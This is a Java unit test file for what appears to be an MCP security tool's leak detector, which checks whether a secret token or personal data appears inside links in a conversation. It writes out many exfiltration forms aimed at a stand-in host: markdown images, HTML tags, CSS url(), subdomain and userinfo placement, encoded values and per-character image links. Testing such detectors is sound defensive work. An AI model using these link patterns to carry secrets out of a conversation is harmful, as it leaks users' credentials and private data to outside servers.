package io.mcpguard.data.leak;

import static io.mcpguard.data.leak.Watches.CONVERSATION;
import static io.mcpguard.data.leak.Watches.TOKEN;
import static io.mcpguard.data.leak.Watches.text;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkLeakTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![chart](https://cdn.example/c.png?d=%s)",
                "[more](https://cdn.example/%s/more \"title\")",
                "[more](<https://cdn.example/a b/%s>)",
                "<img alt='' src='//cdn.example/%s.png'>",
                "<a href = \"https://cdn.example/#%s\">more</a>",
                "<a HREF=https://cdn.example/#%s>more</a>",
                "see https://user:%s@cdn.example/.",
                "see HTTPS://%s.cdn.example/",
                "see www.cdn.example/%s",
                "body { background: url(https://cdn.example/%s) }",
                "{\"link\":\"https:\\/\\/cdn.example\\/%s\"}",
                "[1]: https://cdn.example/%s",
                "[call](tel:%s)",
                "<https://cdn.example/%s>",
            })
    void findsAValueInALink(String link) {
        assertThat(inLinks("Here it is: " + link.replace("%s", TOKEN))).hasSize(1);
    }

    @Test
    void findsAnEncodedValueInALink() {
        assertThat(inLinks("![](https://cdn.example/p?d="
                        + Base64.getUrlEncoder().encodeToString(TOKEN.getBytes(UTF_8)) + "&x=1)"))
                .hasSize(1);
        assertThat(inLinks("![](https://"
                        + HexFormat.of().formatHex(TOKEN.substring(0, 25).getBytes(UTF_8)) + ".cdn.example/)"))
                .hasSize(1);
        assertThat(Watches.of("Mara Quendt, 17 Bramble Court")
                        .inLinks(
                                CONVERSATION,
                                text("https://cdn.example/?q="
                                        + URLEncoder.encode("Mara Quendt, 17 Bramble Court", UTF_8))))
                .hasSize(1);
    }

    @Test
    void findsTheLettersOfAValueInManyLinks() {
        var images = new StringBuilder();
        TOKEN.chars()
                .forEach(c -> images.append("![](https://cdn.example/")
                        .append((char) c)
                        .append(".png?w=2)\n"));

        assertThat(inLinks(images.toString().replace(".png", ""))).hasSize(1);
    }

    @Test
    void saysWhereTheValueStands() {
        String result = "Done. ![ok](https://cdn.example/ok.png?t=" + TOKEN + ")";

        assertThat(inLinks(result))
                .singleElement()
                .satisfies(leak ->
                        assertThat(result.substring(leak.start(), leak.end())).isEqualTo(TOKEN));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "The key is " + TOKEN + ", see https://docs.example/keys.",
                "![chart](https://cdn.example/c.png?d=aB5nVw8ZkR3tXc6MyD2gLf9SjQ7hPe4U)",
                "x = " + TOKEN,
            })
    void aValueOutsideOfLinksIsNotItsMatter(String result) {
        assertThat(inLinks(result)).isEmpty();
    }

    @Test
    void remembersNothing() {
        LeakWatch watch = Watches.of(TOKEN);
        String first = "https://cdn.example/" + TOKEN.substring(0, 16);
        String second = "https://cdn.example/" + TOKEN.substring(16);

        assertThat(watch.inLinks(CONVERSATION, text(first))).isEmpty();
        assertThat(watch.inLinks(CONVERSATION, text("https://cdn.example/x"))).isEmpty();
        assertThat(watch.inLinks(CONVERSATION, text(first, second))).hasSize(1);
    }

    private static List<Leak> inLinks(String result) {
        return Watches.of(TOKEN).inLinks(CONVERSATION, text(result));
    }
}
